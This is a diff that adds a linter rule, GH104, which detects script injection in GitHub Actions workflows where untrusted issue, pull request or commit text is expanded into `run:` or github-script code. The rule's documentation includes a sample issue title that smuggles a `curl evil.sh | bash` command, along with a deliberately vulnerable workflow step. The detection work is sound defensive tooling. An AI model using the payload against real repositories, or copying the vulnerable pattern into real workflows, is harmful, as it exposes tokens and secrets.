@@ -1,0 +1,96 @@
+"""## What it finds
+
+`${{ }}` expressions whose value an outsider chooses, expanded straight into a `run:` script
+or into the `script:` of `actions/github-script`: the title or body of an issue, pull
+request, comment, review or discussion, a pull request's head branch (`github.head_ref`,
+`github.event.pull_request.head.ref`/`head.label`), commit messages and author names
+(`github.event.commits.*.message`, `head_commit.message`), wiki page names, the branch and
+title of a `workflow_run`. Expressions are parsed: `format(…)`, `join(…)`, `toJSON(…)` and
+`a || b` carry their arguments' text into the script; `contains(…)`, comparisons and `!`
+yield only booleans and are left alone. Composite actions (`action.yml`) are checked too.
+
+## Why it matters in production
+
+GitHub substitutes the expression's text into the script *before* the shell runs it. An
+issue titled `"; curl -sSL evil.sh | bash; echo "` becomes shell code executed with the
+workflow's token and secrets. Anyone who can open an issue or a pull request can then push
+to the repository, steal deploy keys or poison releases.
+
+## Example
+
+```yaml
+- run: echo "Triaging ${{ github.event.issue.title }}"
+```
+
+## Use instead
+
+```yaml
+- env:
+    TITLE: ${{ github.event.issue.title }}
+  run: echo "Triaging $TITLE"
+```
+
+## Not flagged
+
+The same value passed through `env:` and used as `"$VAR"`; identifiers an outsider cannot
+shape (`github.event.pull_request.number`, `head.sha`, `github.actor`'s numeric id);
+booleans computed from untrusted text (`contains(github.event.comment.body, '/deploy')`);
+`inputs.*` and `steps.*.outputs.*` (not known to be untrusted); expressions in `if:`,
+`with:` inputs of other actions, or `env:` values.
+
+## How to suppress
+
+`# prodlint-ignore GH104: the title is validated by the previous step` on the line above the
+`run:` key, or inside the script as a shell comment on the line above the expression.
+
+## References
+
+- https://securitylab.github.com/resources/github-actions-untrusted-input/
+- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
+"""
+
+from linter.registry import rule
+from linter.workflows import attacker_controlled, find_expressions, workflow_of
+
+
+def _untrusted(text: str):
+    for expression in find_expressions(text):
+        for path, _node, whole in expression.value_paths():
+            if attacker_controlled(path, whole):
+                yield expression, path
+                break
+
+
+@rule(
+    code="GH104",
+    slug="script-injection",
+    level="error",
+    cwe=94,
+    summary="Untrusted `${{ }}` value expanded into a script",
+    target="workflow",
+    security_severity=9.0,
+    tags=("security", "github-actions"),
+)
+def check(ctx):
+    workflow = workflow_of(ctx)
+    if workflow is None:
+        return
+    for step in workflow.steps():
+        targets = []
+        if step.run is not None:
+            targets.append(("run", step.route + ("run",), step.run))
+        uses = step.uses
+        script = step.with_.get("script")
+        if uses is not None and uses.is_action("actions/github-script") and isinstance(script, str):
+            targets.append(("script", step.route + ("with", "script"), script))
+        for where, route, text in targets:
+            for expression, path in _untrusted(text):
+                shown = f"${{{{{expression.source}}}}}"
+                consequence = "shell code" if where == "run" else "JavaScript"
+                yield ctx.report(
+                    route,
+                    f"`{shown.strip()}` puts `{path}`, which anyone opening an issue or pull request controls, "
+                    f"into the step's `{where}:` text: it runs as {consequence} with the workflow's token; "
+                    "pass it through `env:` and use `\"$VAR\"`",
+                    span=(expression.start, expression.end),
+                )
